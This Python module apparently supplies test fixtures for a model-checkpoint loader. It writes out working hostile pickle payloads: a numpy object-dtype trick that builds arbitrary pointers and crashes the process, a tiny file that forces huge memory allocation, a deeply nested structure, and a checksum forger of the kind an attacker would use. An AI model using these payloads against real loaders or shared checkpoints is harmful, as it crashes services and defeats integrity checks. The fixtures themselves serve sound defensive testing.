"""Hostile checkpoint files: payloads that corrupt memory, exhaust memory or recurse, and the
forged ``checksums.json`` of an attacker who can write into a checkpoint directory."""
import hashlib
import io
import json
import os
import pickle
import struct

import numpy as np
import torch

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_file(body: bytes) -> bytes:
    """torch's legacy (pickle-stream) file around one hand-written pickle ``body`` holding no tensors."""
    sys_info = dict(protocol_version=1001, little_endian=True, type_sizes=dict(short=2, int=4, long=4))
    return (pickle.dumps(LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(sys_info, protocol=2) + body + pickle.dumps([], protocol=2))


class ObjectDtypeWithoutFlags:
    """numpy's dtype('O') whose BUILD state clears the flag that says it holds Python objects."""

    def __reduce__(self):
        return np.dtype, ("O8", False, True), (3, "|", None, None, None, -1, -1, 0)


class PointerArray:
    """An array of that dtype built from raw bytes: two arbitrary pointers as Python objects."""

    def __reduce__(self):
        return np.core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), \
            (1, (2,), ObjectDtypeWithoutFlags(), False, b"\x41" * 16)


def dtype_flags_payload() -> bytes:
    """A training-format checkpoint whose config holds the pointer array: the loaders format it
    into an error message (a SIGSEGV when the array is really built)."""
    buf = io.BytesIO()
    torch.save({"format": "sslam-fast/train", "config": {"model": {"embed_dim": PointerArray()}}, "model": {},
                "cfg": {"model": {"prediction_mode": PointerArray()}}}, buf)
    return buf.getvalue()


def huge_memo_payload(index: int = 2 ** 27) -> bytes:
    """Under 1 KB: one object memoised at ``index`` (a C unpickler grows its memo table to that size)."""
    body = b"\x80\x02cfairseq.meters\nAverageMeter\n)\x81r" + struct.pack("<I", index) + b"."
    return legacy_file(body)


def deep_nesting_payload(depth: int = 20_000) -> bytes:
    """``{"model": {}, "cfg": [[[...]]]}`` nested ``depth`` lists deep (pickle builds it without recursing)."""
    body = (b"\x80\x02}(X\x05\x00\x00\x00model}X\x03\x00\x00\x00cfg" + b"]" * depth + b"a" * (depth - 1) + b"u.")
    return legacy_file(body)


def forge_checksums(directory: str, extra=None) -> None:
    """What an attacker who can write files writes: ``checksums.json`` over whatever ``os.walk``
    finds (links to files are followed and hashed, linked directories are not entered), plus
    ``extra`` entries."""
    files = {}
    for root, _, names in os.walk(directory):
        for name in names:
            full = os.path.join(root, name)
            rel = os.path.relpath(full, directory)
            if rel == "checksums.json" or not os.path.isfile(full):
                continue
            with open(full, "rb") as f:
                files[rel] = {"size": os.path.getsize(full), "sha256": hashlib.sha256(f.read()).hexdigest()}
    files.update(extra or {})
    with open(os.path.join(directory, "checksums.json"), "w") as f:
        json.dump({"hash": "sha256", "files": files}, f)
